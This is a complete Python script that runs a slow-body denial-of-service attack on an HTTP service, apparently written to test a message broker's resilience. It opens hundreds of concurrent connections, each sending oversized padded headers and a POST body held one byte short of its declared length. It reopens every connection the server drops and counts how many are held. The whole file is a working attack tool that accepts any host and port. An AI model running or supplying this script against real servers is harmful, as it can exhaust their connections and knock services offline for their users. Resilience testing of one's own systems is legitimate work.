#!/usr/bin/env python3
"""The slow-body attack on the broker's HTTP edge: CONNECTIONS connections, each sending a POST
/search with HEADER_KB of padding headers and a Content-Length of BODY_KB whose last byte never
comes, then holding; one closed by the broker is opened again a second later. Half present a valid bearer
token (their bodies are read, within --max-body-mb-in-flight), half none (refused on the header).
Runs for SECONDS, then prints how many requests it started and how many the broker closed.
usage: slow_body_attack.py HOST:PORT SECONDS [--connections 600] [--token T] [--header-kb 56] [--body-kb 106]"""
import argparse, selectors, socket, time

parser = argparse.ArgumentParser()
parser.add_argument("address")
parser.add_argument("seconds", type=float)
parser.add_argument("--connections", type=int, default=600)
parser.add_argument("--token", default="")
parser.add_argument("--header-kb", type=int, default=56)
parser.add_argument("--body-kb", type=int, default=106)
args = parser.parse_args()
host, port = args.address.rsplit(":", 1)
body = b"{" + b" " * (args.body_kb * 1024 - 2)  # one byte short of the Content-Length below


def request(with_token):
    pad = b"".join(b"X-Pad-%d: %s\r\n" % (i, b"a" * 1000) for i in range(args.header_kb))
    auth = b"Authorization: Bearer %s\r\n" % args.token.encode() if with_token and args.token else b""
    return (b"POST /search HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\n%s%sContent-Length: %d\r\n\r\n"
            % (host.encode(), auth, pad, len(body) + 1)) + body


requests = [request(False), request(True)]
selector = selectors.DefaultSelector()
started = closed = 0


def open_one(i):
    global started
    s = socket.socket()
    s.setblocking(False)
    try:
        s.connect((host, int(port)))
    except BlockingIOError:
        pass
    except OSError:
        s.close()
        return
    selector.register(s, selectors.EVENT_WRITE | selectors.EVENT_READ, [i, requests[i % 2], 0])
    started += 1


for i in range(args.connections):
    open_one(i)
reopen = []  # (when, index): a connection the broker closed comes back a second later
end = time.time() + args.seconds
while time.time() < end:
    while reopen and reopen[0][0] <= time.time():
        open_one(reopen.pop(0)[1])
    for key, events in selector.select(timeout=0.2):
        s, state = key.fileobj, key.data
        dead = False
        if events & selectors.EVENT_READ:
            try:
                dead = s.recv(65536) == b""  # an answer (401, 503, 408) or a close: done with this one
                dead = True
            except BlockingIOError:
                pass
            except OSError:
                dead = True
        if not dead and events & selectors.EVENT_WRITE:
            try:
                state[2] += s.send(state[1][state[2]:])
                if state[2] >= len(state[1]):
                    selector.modify(s, selectors.EVENT_READ, state)  # all but the last byte sent: hold
            except BlockingIOError:
                pass
            except OSError:
                dead = True
        if dead:
            selector.unregister(s)
            s.close()
            closed += 1
            reopen.append((time.time() + 1, state[0]))
print("slow-body attack: %d requests started, %d closed by the broker, %d connections held at the end"
      % (started, closed, len(selector.get_map())))
